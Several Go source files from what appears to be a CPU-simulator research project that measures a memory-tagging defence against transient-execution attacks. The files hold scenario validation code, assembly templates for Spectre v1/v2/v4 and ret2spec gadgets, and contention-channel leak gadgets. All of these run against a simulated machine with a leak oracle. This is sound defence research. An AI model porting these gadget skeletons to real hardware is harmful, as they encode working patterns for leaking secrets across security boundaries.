	VerdictSeeds int `json:"verdict_seeds"`
}

// Scenario is one fully-specified experiment: machine x defences x
// workloads x run options. The zero value is not runnable — start from
// Default(), a preset, or Load.
type Scenario struct {
	// Version must equal the package Version (1).
	Version int `json:"version"`
	// Name labels the scenario for humans; it is excluded from the hash, so
	// renaming a scenario (or deriving it from a differently-named file)
	// does not orphan recorded results.
	Name string `json:"name,omitempty"`
	// Extends names the preset a scenario file layers over ("table2" when
	// empty). Provenance, not content: excluded from the hash.
	Extends string `json:"extends,omitempty"`
	// Machine is the simulated CPU configuration (Table 2 fields, Go field
	// names as JSON keys).
	Machine core.Config `json:"machine"`
	// Mitigations are policy names resolved against the policy registry,
	// case-insensitively. Sweep columns appear in this order.
	Mitigations []string `json:"mitigations"`
	// Workloads are benchmark kernel names (internal/workloads), rows in
	// sweep order, or one "file:<path>" entry for single-file runs.
	Workloads []string `json:"workloads"`
	// Run tunes execution cost and concurrency.
	Run RunOptions `json:"run"`
	// Chaos, when present, configures a fault-injection campaign.
	Chaos *ChaosOptions `json:"chaos,omitempty"`
	// Fuzz, when present, configures an attack-discovery fuzzing run
	// (specasan-fuzz). Like Chaos it is a pointer with omitempty so
	// pre-fuzzer scenarios keep their content hashes.
	Fuzz *FuzzOptions `json:"fuzz,omitempty"`
}

// DefaultRunOptions match the harness defaults: full-scale kernels, the
// sweep cycle budget, GOMAXPROCS workers, idle skipping on.
func DefaultRunOptions() RunOptions {
	return RunOptions{
		Scale: 1.0, MaxCycles: 200_000_000, Workers: 0, SkipIdle: true,
		RetryBudgetFactor: 4, MaxRetries: 1,
	}
}

// Validate checks the scenario strictly: schema version, machine geometry,
// resolvable mitigation and workload names, sane run and chaos options.
// A scenario that validates can run; one that doesn't names the first
// offending field.
func (s *Scenario) Validate() error {
	if s.Version != Version {
		return fmt.Errorf("scenario: version %d unsupported (want %d)", s.Version, Version)
	}
	if err := s.Machine.Validate(); err != nil {
		return fmt.Errorf("scenario machine: %w", err)
	}
	if len(s.Mitigations) == 0 {
		return fmt.Errorf("scenario: no mitigations")
	}
	for _, name := range s.Mitigations {
		if _, err := core.ParseMitigation(name); err != nil {
			return fmt.Errorf("scenario: %w", err)
		}
	}
	if len(s.Workloads) == 0 {
		return fmt.Errorf("scenario: no workloads")
	}
	for _, name := range s.Workloads {
		if strings.HasPrefix(name, FileWorkloadPrefix) {
			if name == FileWorkloadPrefix {
				return fmt.Errorf("scenario: empty %q workload path", FileWorkloadPrefix)
			}
			continue
		}
		if workloads.ByName(name) == nil {
			return fmt.Errorf("scenario: unknown workload %q", name)
		}
	}
	if !(s.Run.Scale > 0) {
		return fmt.Errorf("scenario run: scale must be > 0 (got %v)", s.Run.Scale)
	}
	if s.Run.MaxCycles < 1 {
		return fmt.Errorf("scenario run: max_cycles must be >= 1")
	}
	if s.Run.Workers < 0 {
		return fmt.Errorf("scenario run: workers must be >= 0")
	}
	if s.Run.ParallelCores < 0 {
		return fmt.Errorf("scenario run: parallel_cores must be >= 0")
	}
	if s.Run.MaxRetries < 0 || s.Run.MaxRetries > 8 {
		return fmt.Errorf("scenario run: max_retries must be in [0,8] (got %d)", s.Run.MaxRetries)
	}
	if s.Run.MaxRetries > 0 && s.Run.RetryBudgetFactor < 1 {
		return fmt.Errorf("scenario run: retry_budget_factor must be >= 1 when max_retries > 0 (got %d)",
			s.Run.RetryBudgetFactor)
	}
	if s.Run.SampleWindows < 0 {
		return fmt.Errorf("scenario run: sample_windows must be >= 0 (got %d)", s.Run.SampleWindows)
	}
	if s.Run.SampleWindows > 1 && s.Run.SampleWindowInsts == 0 {
		return fmt.Errorf("scenario run: sample_window_insts must be > 0 when sample_windows > 1")
	}
	if s.Run.SampleWindowInsts > 0 && s.Run.SampleWindows <= 1 {
		return fmt.Errorf("scenario run: sample_window_insts requires sample_windows > 1 (tail mode ignores it)")
	}
	if s.Run.Sampling() && s.Chaos != nil {
		return fmt.Errorf("scenario run: sampling is incompatible with a chaos section (the injector must observe every cycle)")
	}
	if (s.Run.TraceRecord || s.Run.TraceReplay) && s.Chaos != nil {
		return fmt.Errorf("scenario run: trace record/replay is incompatible with a chaos section (campaigns drive the injector directly)")
	}
	if f := s.Fuzz; f != nil {
		if f.Candidates < 0 {
			return fmt.Errorf("scenario fuzz: candidates must be >= 0 (got %d)", f.Candidates)
		}
		if f.BudgetSeconds < 0 {
			return fmt.Errorf("scenario fuzz: budget_seconds must be >= 0 (got %d)", f.BudgetSeconds)
		}
		if f.Candidates == 0 && f.BudgetSeconds == 0 {
			return fmt.Errorf("scenario fuzz: one of candidates or budget_seconds must be set")
		}
	}
	if c := s.Chaos; c != nil {
		if c.Seeds < 1 {
			return fmt.Errorf("scenario chaos: seeds must be >= 1")
		}
		if c.Rate < 0 || c.Rate > 1 {
			return fmt.Errorf("scenario chaos: rate must be in [0,1] (got %v)", c.Rate)
		}
		if c.MaxLatency < 1 {
			return fmt.Errorf("scenario chaos: max_latency must be >= 1")
		}
		if c.VerdictSeeds < 0 {
			return fmt.Errorf("scenario chaos: verdict_seeds must be >= 0")
		}
		for _, k := range c.Kinds {
			if _, err := chaos.ParseKind(k); err != nil {
				return fmt.Errorf("scenario chaos: %w", err)
			}
		}
	}
	return nil
}

// MitigationList resolves the scenario's policy names against the registry,
// in scenario order.
func (s *Scenario) MitigationList() ([]core.Mitigation, error) {
	return ParseMitigationNames(s.Mitigations)
}

// WorkloadSpecs resolves the scenario's workload names, in scenario order.
// "file:" entries are not named kernels and are rejected here — single-file
// runs are the CLI's business.
func (s *Scenario) WorkloadSpecs() ([]*workloads.Spec, error) {
	out := make([]*workloads.Spec, 0, len(s.Workloads))
	for _, name := range s.Workloads {
		if strings.HasPrefix(name, FileWorkloadPrefix) {
			return nil, fmt.Errorf("scenario: %q is a file workload, not a named kernel", name)
		}
		spec := workloads.ByName(name)
		if spec == nil {
			return nil, fmt.Errorf("scenario: unknown workload %q", name)
		}
		out = append(out, spec)
	}
	return out, nil
}

// ChaosKinds resolves the chaos section's fault kinds; an absent section or
// empty list means every kind.
func (s *Scenario) ChaosKinds() ([]chaos.Kind, error) {
	if s.Chaos == nil || len(s.Chaos.Kinds) == 0 {
		return chaos.AllKinds(), nil
	}
	out := make([]chaos.Kind, 0, len(s.Chaos.Kinds))
	for _, name := range s.Chaos.Kinds {
		k, err := chaos.ParseKind(strings.TrimSpace(name))
		if err != nil {
			return nil, err
		}
		out = append(out, k)
	}
	return out, nil
}

// canonical returns the scenario's content in hash-canonical form: the
// identity fields (Name, Extends) cleared, everything else as-is. JSON
// marshalling of the result is deterministic — structs marshal in field
// order and the only map (descriptor knobs) never appears here.
func (s *Scenario) canonical() Scenario {
	c := *s
	c.Name = ""
	c.Extends = ""
	return c
}

// Hash returns the scenario's canonical content hash: 16 hex characters of
// SHA-256 over the canonical JSON encoding. Two scenarios hash equal exactly
// when every behaviour-determining field matches; Name and Extends are
// provenance and excluded. This is the identity stamped into sweep metrics,
// perf history, and chaos reports.
func (s *Scenario) Hash() string {
	c := s.canonical()
	b, err := json.Marshal(&c)
	if err != nil {
		// Scenario is plain data; Marshal cannot fail on it. Keep the
		// signature ergonomic and make the impossible case loud.
		panic(fmt.Sprintf("scenario: canonical marshal: %v", err))
	}
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:8])
}

// MarshalJSONIndent renders the scenario as a checked-in-friendly document:
// two-space indent, trailing newline.
func (s *Scenario) MarshalJSONIndent() ([]byte, error) {
	b, err := json.MarshalIndent(s, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(b, '\n'), nil
}

// ParseMitigationNames resolves policy names (case-insensitive) in order.
func ParseMitigationNames(names []string) ([]core.Mitigation, error) {
	out := make([]core.Mitigation, 0, len(names))
	for _, name := range names {
		m, err := core.ParseMitigation(strings.TrimSpace(name))
		if err != nil {
			return nil, err
		}
		out = append(out, m)
	}
	return out, nil
}

// ParseMitigationList parses a comma-separated, case-insensitive mitigation
// list — the one flag-parsing helper behind every CLI's -mitigation/-mits
// flag (previously each CLI re-implemented this).
func ParseMitigationList(csv string) ([]core.Mitigation, error) {
	return ParseMitigationNames(splitCSV(csv))
}

// ParseWorkloadList parses a comma-separated benchmark-name list into specs.
func ParseWorkloadList(csv string) ([]*workloads.Spec, error) {
	names := splitCSV(csv)
	out := make([]*workloads.Spec, 0, len(names))
	for _, name := range names {
		spec := workloads.ByName(name)
		if spec == nil {
			return nil, fmt.Errorf("unknown workload %q", name)
		}
		out = append(out, spec)
	}
	return out, nil
}

// MitigationNames renders mitigations back to their canonical display names
// (the inverse of ParseMitigationNames, for stamping scenarios built from
// flags).
func MitigationNames(mits []core.Mitigation) []string {
	out := make([]string, len(mits))
	for i, m := range mits {
		out[i] = m.String()
	}
	return out
}

// WorkloadNames lists the specs' names in order.
func WorkloadNames(specs []*workloads.Spec) []string {
	out := make([]string, len(specs))
	for i, s := range specs {
		out[i] = s.Name
	}
	return out
}

func splitCSV(csv string) []string {
	var out []string
	for _, part := range strings.Split(csv, ",") {
		if p := strings.TrimSpace(part); p != "" {
			out = append(out, p)
		}
	}
	return out
}
