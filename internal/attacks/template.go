package attacks

// Template extraction for programmatic variant construction: the fuzzer (and
// any other generator) composes attack programs from the same trigger
// skeletons the hand-written PoCs use — bounds-check bypass, branch-target
// injection, return-stack misdirection, store bypass — with a caller-supplied
// gadget body in the transient window. The hand-written Table 1 PoCs keep
// their original sources; these templates are the reusable halves.
//
// Register contract for gadget bodies:
//
//	X26 — pointer to the secret (pht/btb/rsb triggers; the access phase is
//	      the body's business: `LDR X5, [X26]`)
//	X5  — the secret value itself (stl trigger: the stale read already
//	      happened when the body runs)
//	X22 — probe array base (ProbeAddr, 4 KiB, untagged)
//	X15 — fuzz probe base (FuzzProbeAddr, 64 KiB, untagged; room for
//	      page-stride transmits)
//	X7  — seeded with a small constant (divider/multiplier fodder)
//	scratch: X6, X8, X10, X11, X16, X17 (and X7 may be clobbered)
//
// Bodies execute architecturally during training iterations with benign
// values in X26/X5, so they must be committed-path safe for any input:
// loads only into the untagged probe regions, no stores, no back-edges.

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/cpu"
	"specasan/internal/mem"
	"specasan/internal/mte"
)

// FuzzProbeAddr is the enlarged, untagged probe region generated programs
// transmit into. 64 KiB leaves room for page-stride (TLB-flavoured)
// encodings that ProbeSize (4 KiB) cannot hold.
const (
	FuzzProbeAddr = 0x200000
	FuzzProbeSize = 0x10000
)

// Trigger names for programmatic construction.
const (
	TriggerPHT = "pht" // mistrained bounds check (Spectre v1)
	TriggerBTB = "btb" // indirect-branch target injection (Spectre v2)
	TriggerRSB = "rsb" // return-stack misdirection (ret2spec)
	TriggerSTL = "stl" // store-bypass stale read (Spectre v4)
)

// Relations between the gadget's secret access and the MTE tag state —
// the axis SpecASan's verdict depends on.
const (
	// RelForeign: the attacker's own pointer, key mismatches the secret's
	// allocation tag (sanitization refuses it).
	RelForeign = "foreign"
	// RelMatching: the victim's own valid pointer (LDG-recovered key); no
	// tag check can refuse it.
	RelMatching = "matching"
	// RelStale: a valid pointer to a retagged slot whose *data* is stale
	// secret (the Spectre-v4 shape; the tagged slot trips SpecASan's
	// store-bypass rule).
	RelStale = "stale"
	// RelUntagged: the stale-read slot carries tag 0 — outside MTE's
	// coverage, so address sanitization never inspects the access.
	RelUntagged = "untagged"
)

// Triggers lists the programmatic trigger templates.
func Triggers() []string {
	return []string{TriggerPHT, TriggerBTB, TriggerRSB, TriggerSTL}
}

// RelationsFor lists the tag relations a trigger supports. PHT's access goes
// through the victim-array pointer (inherently foreign); STL's goes through
// a valid pointer at stale data.
func RelationsFor(trigger string) []string {
	switch trigger {
	case TriggerPHT:
		return []string{RelForeign}
	case TriggerBTB, TriggerRSB:
		return []string{RelForeign, RelMatching}
	case TriggerSTL:
		return []string{RelStale, RelUntagged}
	default:
		return nil
	}
}

// TagRange retags one region during setup (the STL realloc model).
type TagRange struct {
	Addr uint64 `json:"addr"`
	Size uint64 `json:"size"`
	Tag  uint8  `json:"tag"`
}

// SetupSpec is the declarative form of a Scenario's Setup hook: everything a
// machine run needs beyond the program text, serializable so generated
// variants round-trip through JSON and so the memory half can be replayed
// onto the golden interpreter's image for architectural cross-checking.
type SetupSpec struct {
	// Common plants the secret, tags the victim regions, marks the oracle
	// and fills array1 with benign indices (setupCommon).
	Common bool `json:"common"`
	// Retag overrides tag ranges after Common (e.g. the freed-and-
	// reallocated STL slot).
	Retag []TagRange `json:"retag,omitempty"`
	// PoisonRSBLabel, when set, stuffs the return stack buffer with the
	// named label's address (cross-context RSB pollution).
	PoisonRSBLabel   string `json:"poison_rsb_label,omitempty"`
	PoisonRSBEntries int    `json:"poison_rsb_entries,omitempty"`
}

// Apply performs the setup on a machine. prog resolves labels (RSB
// poisoning); it must be the program the machine was built from.
func (s *SetupSpec) Apply(m *cpu.Machine, prog *asm.Program) error {
	if s.Common {
		setupCommon(m)
	}
	for _, r := range s.Retag {
		m.Img.Tags.SetRange(r.Addr, r.Size, mte.Tag(r.Tag))
	}
	if s.PoisonRSBLabel != "" {
		target, err := prog.LookupLabel(s.PoisonRSBLabel)
		if err != nil {
			return fmt.Errorf("setup: %w", err)
		}
		n := s.PoisonRSBEntries
		if n <= 0 {
			n = 4
		}
		m.Core(0).Predictor().PoisonRSB(target, n)
	}
	return nil
}

// ApplyImage replays the memory half of the setup (secret bytes, tags) onto
// a bare image — the golden interpreter's view. Predictor poisoning and
// oracle marks have no architectural effect and are skipped.
func (s *SetupSpec) ApplyImage(img *mem.Image) {
	if s.Common {
		img.WriteU64(SecretAddr, SecretValue)
		img.Write(SecretAddr+8, []byte("SECRET!!"))
		img.Tags.SetRange(Array1Addr, Array1Size, TagVictim)
		img.Tags.SetRange(SecretAddr, SecretSize, TagSecret)
		for i := uint64(0); i < Array1Size; i += 8 {
			img.WriteU64(Array1Addr+i, i/8)
		}
	}
	for _, r := range s.Retag {
		img.Tags.SetRange(r.Addr, r.Size, mte.Tag(r.Tag))
	}
}

// Variant wraps an assembly source plus a SetupSpec as an attacks.Variant,
// the unit RunVariantWith executes. maxCycles bounds the run (0 keeps the
// harness default).
func (s SetupSpec) Variant(name, src string, maxCycles uint64) Variant {
	return Variant{Name: name, Build: func() (*Scenario, error) {
		prog, err := asm.Assemble(src)
		if err != nil {
			return nil, err
		}
		spec := s // copy: the closure may run concurrently
		return &Scenario{Prog: prog, MaxCycles: maxCycles, Setup: func(m *cpu.Machine) {
			if err := spec.Apply(m, prog); err != nil {
				// Label resolution failed after a successful assemble —
				// structurally impossible for template output; surface
				// loudly rather than silently skipping the poison.
				panic(err)
			}
		}}, nil
	}}
}

// fuzzDataSection extends the shared PoC regions with the enlarged probe.
var fuzzDataSection = pocDataSection + fmt.Sprintf(`
    .org %d
fuzzprobe:
    .space %d
`, FuzzProbeAddr, FuzzProbeSize)

// phtGadgetTemplate is the bounds-check-bypass skeleton of the Spectre-v1
// PoC with the transient window's body left open. The victim's in-bounds
// executions run @BODY@ architecturally with benign X26.
const phtGadgetTemplate = `
_start:
    ADR  X20, size_slot
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X27, #@OOB@
    MOV  X28, #8
    MOV  X7, #13
@WARM@
    MOV  X12, #@TRAIN@
loop:
    ADR  X9, size_slot
    DC   CIVAC, X9
    DSB
    CMP  X12, #1
    CSEL X0, X27, X28, EQ
    BL   victim
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

victim:
    BTI
    LDR  X1, [X20]
    CMP  X0, X1
    B.HS vdone
    ADD  X26, X21, X0
@BODY@
vdone:
    RET

    .org 0x120000
size_slot:
    .word 16
@DATA@
`

// btbGadgetTemplate is the branch-target-injection skeleton (one indirect
// call site trained into the non-BTI gadget, redirected on the final
// iteration while the function-pointer load is flushed).
const btbGadgetTemplate = `
_start:
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X7, #13
@WARM@    ADR  X19, fnslot
    ADR  X24, gadget
    ADR  X25, legit
    MOV  X23, X21
@SECRETPTR@    MOV  X12, #@TRAIN@
loop:
    CMP  X12, #1
    CSEL X9, X25, X24, EQ
    STR  X9, [X19]
    CSEL X26, X18, X23, EQ
    ADR  X9, fnslot
    DC   CIVAC, X9
    DSB
    LDR  X9, [X19]
    BLR  X9
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

gadget:                    // not BTI
@BODY@
    RET
legit:
    BTI
    RET

    .org 0x120000
fnslot:
    .word 0
@DATA@
`

// rsbGadgetTemplate is the ret2spec skeleton: the RSB is attacker-stuffed
// (SetupSpec.PoisonRSBLabel) and the return-address load misses, so the RET
// speculates into the gadget. The body never executes architecturally.
const rsbGadgetTemplate = `
_start:
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X7, #13
@WARM@@SECRETPTR@    ADR  X9, lrslot
    LDR  X30, [X9]
    RET

gadget:
@BODY@
    RET
real_continue:
    BTI
    SVC  #0

    .org 0x120000
lrslot:
    .word real_continue
@DATA@
`

// stlGadgetTemplate is the store-bypass skeleton: the initialising store's
// address resolves slowly, the younger load transiently reads the stale
// secret, and @BODY@ runs with it in X5. Architecturally the body sees the
// post-store value (0).
const stlGadgetTemplate = `
_start:
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X7, #13
    MOV  X28, #@SLOT@
    LDG  X28, [X28]
    LDR  X14, [X28]
    DSB
    ADR  X9, depslot
    LDR  X1, [X9]
    AND  X1, X1, #7
    ADD  X2, X28, X1
    STR  XZR, [X2]
    LDR  X3, [X28]
    MOV  X5, X3
@BODY@
    SVC  #0

    .org 0x120000
depslot:
    .word 0
@DATA@
`

// RenderGadget composes a trigger template, a tag relation and a gadget body
// into a full program source plus the setup it needs. train is the trigger's
// training-iteration count where the skeleton has one (pht, btb); 0 picks
// the default. The body must honour the register contract at the top of
// this file.
func RenderGadget(trigger, relation string, train int, body string) (string, SetupSpec, error) {
	relOK := false
	for _, r := range RelationsFor(trigger) {
		if r == relation {
			relOK = true
		}
	}
	if !relOK {
		return "", SetupSpec{}, fmt.Errorf("trigger %q does not support relation %q", trigger, relation)
	}
	setup := SetupSpec{Common: true}
	var src string
	switch trigger {
	case TriggerPHT:
		if train == 0 {
			train = 17
		}
		if train < 3 || train > 64 {
			return "", SetupSpec{}, fmt.Errorf("pht train count %d out of range [3,64]", train)
		}
		src = expand(phtGadgetTemplate, map[string]string{
			"OOB":   fmt.Sprint(SecretAddr - Array1Addr),
			"TRAIN": fmt.Sprint(train),
			"BODY":  body,
			"DATA":  fuzzDataSection,
		})
	case TriggerBTB:
		if train == 0 {
			train = 7
		}
		if train < 3 || train > 32 {
			return "", SetupSpec{}, fmt.Errorf("btb train count %d out of range [3,32]", train)
		}
		src = expand(btbGadgetTemplate, map[string]string{
			"SECRETPTR": secretPtrTo18(relation == RelForeign),
			"TRAIN":     fmt.Sprint(train),
			"BODY":      body,
			"DATA":      fuzzDataSection,
		})
	case TriggerRSB:
		src = expand(rsbGadgetTemplate, map[string]string{
			"SECRETPTR": secretPtrSetup(relation == RelForeign),
			"BODY":      body,
			"DATA":      fuzzDataSection,
		})
		setup.PoisonRSBLabel = "gadget"
		setup.PoisonRSBEntries = 4
	case TriggerSTL:
		src = expand(stlGadgetTemplate, map[string]string{
			"SLOT": fmt.Sprint(SecretAddr),
			"BODY": body,
			"DATA": fuzzDataSection,
		})
		tag := uint8(0xc)
		if relation == RelUntagged {
			tag = 0
		}
		setup.Retag = []TagRange{{Addr: SecretAddr, Size: SecretSize, Tag: tag}}
	default:
		return "", SetupSpec{}, fmt.Errorf("unknown trigger %q", trigger)
	}
	return src, setup, nil
}
