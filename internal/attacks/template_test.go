package attacks

import (
	"strings"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/golden"
)

func TestRenderGadgetAllCombos(t *testing.T) {
	// Every advertised trigger × relation combination renders to a program
	// that assembles and terminates cleanly on the golden interpreter with a
	// trivial body — the contract the fuzzer's grammar builds on.
	body := "    LDR  X5, [X26]"
	for _, trigger := range Triggers() {
		for _, rel := range RelationsFor(trigger) {
			stlBody := body
			if trigger == TriggerSTL {
				stlBody = "    NOP" // stl provides the secret in X5 itself
			}
			src, setup, err := RenderGadget(trigger, rel, 0, stlBody)
			if err != nil {
				t.Fatalf("RenderGadget(%s, %s): %v", trigger, rel, err)
			}
			prog, err := asm.Assemble(src)
			if err != nil {
				t.Fatalf("%s/%s does not assemble: %v", trigger, rel, err)
			}
			for _, mteOn := range []bool{false, true} {
				ip := golden.New(prog)
				ip.MTEOn = mteOn
				setup.ApplyImage(ip.Mem)
				res := ip.Run(200_000)
				if res.Reason != golden.StopExit {
					t.Fatalf("%s/%s (mte=%v) golden stopped with %v", trigger, rel, mteOn, res.Reason)
				}
			}
		}
	}
}

func TestRenderGadgetRejectsUnknown(t *testing.T) {
	if _, _, err := RenderGadget("smc", RelForeign, 0, "    NOP"); err == nil {
		t.Fatal("unknown trigger must error")
	}
	if _, _, err := RenderGadget(TriggerPHT, RelStale, 0, "    NOP"); err == nil {
		t.Fatal("pht/stale is not an advertised combination")
	}
}

func TestRenderGadgetTrainBounds(t *testing.T) {
	for _, tc := range []struct {
		trigger string
		train   int
	}{{TriggerPHT, 2}, {TriggerPHT, 65}, {TriggerBTB, 1}, {TriggerBTB, 33}} {
		if _, _, err := RenderGadget(tc.trigger, RelForeign, tc.train, "    NOP"); err == nil {
			t.Errorf("RenderGadget(%s, train=%d) must reject out-of-range training", tc.trigger, tc.train)
		}
	}
}

func TestSetupSpecVariantReplays(t *testing.T) {
	// The stl/stale render leaks under Unsafe via its SetupSpec-built
	// variant: the full declarative round trip (render → spec → machine).
	src, setup, err := RenderGadget(TriggerSTL, RelStale, 0,
		"    LSL  X6, X5, #6\n    AND  X6, X6, #960\n    LDR  X8, [X15, X6]")
	if err != nil {
		t.Fatal(err)
	}
	v := setup.Variant("stl-stale-test", src, 400_000)
	out, err := RunVariant(v, 0) // core.Unsafe
	if err != nil {
		t.Fatal(err)
	}
	if !out.Leaked {
		t.Fatalf("stl/stale cache transmit must leak under Unsafe:\n%s", src)
	}
	if !strings.Contains(src, "depslot") {
		t.Fatal("stl template lost its dependence slot")
	}
}
