package attacks

import (
	"specasan/internal/asm"
)

// Speculative contention-channel (SCC) attacks transmit through execution
// timing — port pressure, divider occupancy, MSHR pressure — instead of
// cache state. The leak oracle records these as ChanPort / ChanDivider /
// ChanMSHR events when an instruction with secret operands occupies the
// shared resource during transient execution.

// gadgetBodies for the SCC attacks. X26 holds the secret pointer (set per
// variant); X22 the probe base (for the cache-transmit comparison variant).
const (
	// branch-port: branching on the secret steers fetch and execution-port
	// pressure (the SMoTHERSpectre signal).
	bodyBranchPort = `
    LDR  X5, [X26]
    AND  X5, X5, #1
    CBZ  X5, g_light
    MUL  X7, X7, X7
    MUL  X7, X7, X7
    MUL  X7, X7, X7
g_light:
    NOP
`
	// div-timing: an early-terminating divider's occupancy depends on its
	// operands (the SpectreRewind signal).
	bodyDivTiming = `
    LDR  X5, [X26]
    MOV  X9, #3
    SDIV X7, X5, X9
`
	// port-burst: multiplies consuming the secret occupy the MDU; their
	// residency perturbs older, bound-to-commit instructions (the
	// Speculative Interference signal).
	bodyPortBurst = `
    LDR  X5, [X26]
    MUL  X7, X5, X5
    MUL  X7, X7, X5
    MUL  X7, X7, X5
`
	// mshr-pressure: secret-derived addresses allocate MSHRs.
	bodyMSHRPressure = `
    LDR  X5, [X26]
    LSL  X6, X5, #6
    AND  X6, X6, #4032
    LDR  X8, [X22, X6]
    ADD  X6, X6, #64
    LDR  X8, [X22, X6]
`
	// cache-transmit: the classic cache encoding, for comparison (this is
	// the only SCC channel shadow-structure defences cover).
	bodyCacheTransmit = `
    LDR  X5, [X26]
    LSL  X6, X5, #6
    AND  X6, X6, #4032
    LDR  X8, [X22, X6]
`
)

// buildIndirectSCC is an indirect-call (BTB-injected) SCC gadget, the
// SMoTHERSpectre entry vector. Structure mirrors the Spectre-v2 PoC: one
// call site, trained into the gadget, redirected on the final iteration.
func buildIndirectSCC(foreign bool, body string) func() (*Scenario, error) {
	return func() (*Scenario, error) {
		prog, err := asm.Assemble(expand(`
_start:
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
    MOV  X7, #13
@WARM@    ADR  X19, fnslot
    ADR  X24, gadget
    ADR  X25, legit
    MOV  X23, X21
@SECRETPTR@    MOV  X12, #7
loop:
    CMP  X12, #1
    CSEL X9, X25, X24, EQ
    STR  X9, [X19]
    CSEL X26, X18, X23, EQ
    ADR  X9, fnslot
    DC   CIVAC, X9
    DSB
    LDR  X9, [X19]
    BLR  X9
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

gadget:                    // not BTI
@BODY@
    RET
legit:
    BTI
    RET

    .org 0x120000
fnslot:
    .word 0
@DATA@
`, map[string]string{
			"SECRETPTR": secretPtrTo18(foreign),
			"BODY":      body,
			"DATA":      pocDataSection,
		}))
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: setupCommon}, nil
	}
}

// buildCondSCC is a conditional-branch (PHT-mistrained) SCC gadget: the
// Speculative Interference / SpectreRewind entry vector. The access is the
// Spectre-v1 out-of-bounds pattern, so the secret load always violates tags.
func buildCondSCC(body string) func() (*Scenario, error) {
	return func() (*Scenario, error) {
		prog, err := asm.Assemble(expand(`
_start:
    ADR  X20, size_slot
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
    MOV  X27, #@OOB@
    MOV  X28, #8
    MOV  X7, #13
@WARM@
    MOV  X12, #17
loop:
    ADR  X9, size_slot
    DC   CIVAC, X9
    DSB
    CMP  X12, #1
    CSEL X0, X27, X28, EQ
    BL   victim
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

victim:
    BTI
    LDR  X1, [X20]
    CMP  X0, X1
    B.HS vdone
    ADD  X26, X21, X0      // &array1[X] — OOB points at the secret
@BODY@
vdone:
    RET

    .org 0x120000
size_slot:
    .word 16
@DATA@
`, map[string]string{
			"OOB":  "128",
			"BODY": body,
			"DATA": pocDataSection,
		}))
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: setupCommon}, nil
	}
}

// SMoTHERSpectre: BTB-injected gadget transmitting through execution-port
// and divider contention; the cache variant is included for comparison.
func SMoTHERSpectre() *Attack {
	return &Attack{
		Name:  "SMoTHERSpectre",
		Class: "SCC",
		Variants: []Variant{
			{Name: "branch-port/foreign-key", Build: buildIndirectSCC(true, bodyBranchPort)},
			{Name: "branch-port/matching-key", Build: buildIndirectSCC(false, bodyBranchPort)},
			{Name: "div-timing/matching-key", Build: buildIndirectSCC(false, bodyDivTiming)},
			{Name: "cache-transmit/matching-key", Build: buildIndirectSCC(false, bodyCacheTransmit)},
		},
	}
}

// SpeculativeInterference: PHT-mistrained gadget whose secret-dependent
// resource pressure (MSHRs, execution ports) shifts the timing of older
// bound-to-commit instructions.
func SpeculativeInterference() *Attack {
	return &Attack{
		Name:  "Spec. Interference",
		Class: "SCC",
		Variants: []Variant{
			{Name: "mshr-pressure", Build: buildCondSCC(bodyMSHRPressure)},
			{Name: "port-burst", Build: buildCondSCC(bodyPortBurst)},
		},
	}
}

// SpectreRewind: PHT-mistrained gadget transmitting backwards in time
// through non-pipelined divider contention.
func SpectreRewind() *Attack {
	return &Attack{
		Name:  "SpectreRewind",
		Class: "SCC",
		Variants: []Variant{
			{Name: "div-contention", Build: buildCondSCC(bodyDivTiming)},
			{Name: "branch-port", Build: buildCondSCC(bodyBranchPort)},
			{Name: "cache-transmit", Build: buildCondSCC(bodyCacheTransmit)},
		},
	}
}
