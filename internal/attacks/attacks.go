// Package attacks contains proof-of-concept implementations of the eleven
// transient-execution attack variants in Table 1 of the paper (five Spectre
// variants, three MDS variants, three speculative-contention-channel
// variants), plus the harness that runs each PoC under each mitigation and
// derives the full/partial/no-mitigation verdicts.
//
// Methodology (§4.3 of the paper): end-to-end timing extraction is not
// meaningful inside a simulator, so an attack "succeeds" when the leak
// oracle observes a secret-derived change to microarchitectural state during
// transient execution — the same detection-log approach the paper uses.
// Attacks that the paper rates "partial" against SpecASan ship two gadget
// variants: one whose secret access violates MTE tags (blocked) and one that
// reaches the secret through a tag-valid pointer (not blocked).
package attacks

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/cpu"
)

// Standard PoC memory layout. Every PoC uses (a subset of) these regions so
// the setup code can be shared.
const (
	Array1Addr = 0x100000 // victim array, tagged TagVictim
	Array1Size = 128
	SecretAddr = 0x100080 // the secret, tagged TagSecret, right past array1
	SecretSize = 16
	ProbeAddr  = 0x110000 // attacker probe array (untagged)
	ProbeSize  = 4096
	KernelAddr = 0xf00000 // "kernel" page: assist (permission-faulting) region
	KernelSize = 0x1000
)

// Tags used by the PoCs.
const (
	TagVictim = 0xa
	TagSecret = 0xb
)

// SecretValue is the 64-bit secret planted at SecretAddr.
const SecretValue = 0x5ec4e7_c0ffee

// Scenario is one runnable attack instance.
type Scenario struct {
	Prog      *asm.Program
	Setup     func(m *cpu.Machine) // tags, secrets, predictor poisoning, assists
	MaxCycles uint64
}

// Variant is one gadget flavour of an attack.
type Variant struct {
	Name  string
	Build func() (*Scenario, error)
}

// Attack is one Table 1 row.
type Attack struct {
	Name     string // display name, e.g. "PHT (Spectre v1)"
	Class    string // "Spectre", "MDS", "SCC"
	Variants []Variant
}

// Outcome is the result of one variant under one mitigation.
type Outcome struct {
	Variant     string
	Leaked      bool
	SecretReads uint64
	Events      map[core.LeakChannel]int
	Faulted     bool
	TimedOut    bool
	Cycles      uint64
}

// Verdict is a Table 1 cell.
